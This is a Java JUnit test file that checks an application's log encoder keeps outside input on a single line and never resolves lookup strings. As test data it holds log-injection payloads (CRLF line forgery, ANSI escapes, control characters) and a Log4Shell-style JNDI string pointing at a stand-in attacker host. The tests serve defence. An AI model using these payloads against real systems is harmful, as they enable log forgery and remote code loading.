package org.cunlu.kernel.request;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Level;
import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.LoggerContext;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.classic.spi.LoggingEvent;
import ch.qos.logback.core.ConsoleAppender;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slf4j.LoggerFactory;

/** The log as it is configured for the app: whatever came from outside stays within its line. */
class LogLinesTest {
    private final LoggerContext context = (LoggerContext) LoggerFactory.getILoggerFactory();
    private final Logger logger = context.getLogger("org.cunlu.access");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a\r\n2026-11-27T00:00:00.000Z INFO forged",
                "a\nforged",
                "a\rforged",
                "a\u001b[2J\u001b[31mforged",
                "a\u0000forged",
                "a\u000bforged\u000cforged"
            })
    void nothingThatCameFromOutsideBeginsALineOfItsOwn(String came) {
        assertOneLine(line("came: {}", came, null));
        assertOneLine(line(came, null, null));
        assertOneLine(line("broke", null, new IllegalStateException(came)));
    }

    @Test
    void aRequestIdInTheLineIsTheOneThatWasFoundSane() {
        var event = event("here", null, null);
        event.setMDCPropertyMap(Map.of(RequestIds.LOG_KEY, "abc-123"));
        assertThat(encoded(event)).contains("[abc-123]");
    }

    /** A name that another library would look up over the network is only a text here. */
    @Test
    void nothingIsLookedUp() {
        assertThat(line("came: {}", "${jndi:ldap://evil.example/a} ${env:PATH}", null))
                .contains("${jndi:ldap://evil.example/a} ${env:PATH}");
    }

    @Test
    void aLineTellsWhenWhereAndHowGraveInTheWorldsTime() {
        assertThat(line("here", null, null))
                .matches(
                        "\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z INFO  \\[-] org\\.cunlu\\.access here *\n");
    }

    private static void assertOneLine(String line) {
        assertThat(line).endsWith("\n");
        assertThat(line.substring(0, line.length() - 1)).matches("[^\\x00-\\x1f\\x7f]+");
    }

    private String line(String message, String argument, Throwable thrown) {
        return encoded(event(message, argument, thrown));
    }

    private LoggingEvent event(String message, String argument, Throwable thrown) {
        Object[] arguments = argument == null ? null : new Object[] {argument};
        return new LoggingEvent("", logger, Level.INFO, message, thrown, arguments);
    }

    private String encoded(LoggingEvent event) {
        var lines = (ConsoleAppender<ILoggingEvent>)
                context.getLogger(Logger.ROOT_LOGGER_NAME).getAppender("lines");
        return new String(lines.getEncoder().encode(event), StandardCharsets.UTF_8);
    }
}
